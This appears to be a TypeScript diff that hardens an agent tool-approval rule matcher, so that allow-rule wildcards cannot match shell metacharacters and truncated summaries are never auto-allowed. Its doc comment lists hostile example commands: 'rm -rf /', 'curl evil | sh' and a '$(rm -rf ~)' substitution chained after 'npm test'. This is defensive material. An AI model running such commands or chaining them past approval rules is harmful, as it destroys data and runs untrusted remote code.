@@ -3,6 +3,12 @@
  * request when its `tool` names the request's tool (`*` any), its `harness` (if set) the agent's
  * harness type, and its `match` glob (if set) the whole summary (`npm test*`). Deny rules win
  * over allow rules: of the matching rules the first deny, else the first allow, decides.
+ *
+ * An allow rule's wildcards never stand for a shell metacharacter: `npm test*` allows
+ * `npm test -- --watch` but not `npm test; rm -rf /`, `npm test && curl evil | sh` or
+ * `npm test $(rm -rf ~)` (a person decides those), unless the glob writes that character itself.
+ * A deny rule's wildcards match anything (`*--force*` denies `ls; git push --force`). A summary
+ * that was cut (it ends with `…`) is never allowed by a rule: what was cut is unknown.
  */
 export interface ApprovalRule {
   harness?: string
@@ -27,6 +33,19 @@ export function globRegExp(glob: string): RegExp {
   return new RegExp(`^${body}$`)
 }
 
+/**
+ * Characters that end, chain, pipe, redirect or substitute a shell command (and the newline and
+ * the truncation mark): an allow rule's `*` and `?` do not match them.
+ */
+const SHELL_META = ';&|`$<>()\n\r…'
+const META_CLASS = `[^${SHELL_META.replace(/[\]\\^-]/g, '\\$&')}]`
+
+/** An allow rule's glob: like globRegExp, but a wildcard never matches a shell metacharacter. */
+export function allowGlobRegExp(glob: string): RegExp {
+  const body = glob.replace(/[.+^${}()|[\]\\]/g, '\\$&').replace(/\*/g, `${META_CLASS}*`).replace(/\?/g, META_CLASS)
+  return new RegExp(`^${body}$`)
+}
+
 /** The rule that decides a request (its index in the setting), or null: a person decides. */
 export function ruleDecision(rules: readonly (ApprovalRule | null)[], req: {harness: string; tool: string; summary: string}): {index: number; decision: 'allow' | 'deny'} | null {
   let allow: number | null = null
@@ -35,7 +54,8 @@ export function ruleDecision(rules: readonly (ApprovalRule | null)[], req: {harn
     if (!r) continue
     if (r.harness && r.harness !== req.harness) continue
     if (r.tool !== '*' && r.tool !== req.tool) continue
-    if (r.match !== undefined && !globRegExp(r.match).test(req.summary)) continue
+    if (r.match !== undefined && !(r.decision === 'allow' ? allowGlobRegExp(r.match) : globRegExp(r.match)).test(req.summary)) continue
+    if (r.decision === 'allow' && req.summary.endsWith('…')) continue
     if (r.decision === 'deny') return {index: i, decision: 'deny'}
     allow ??= i
   }
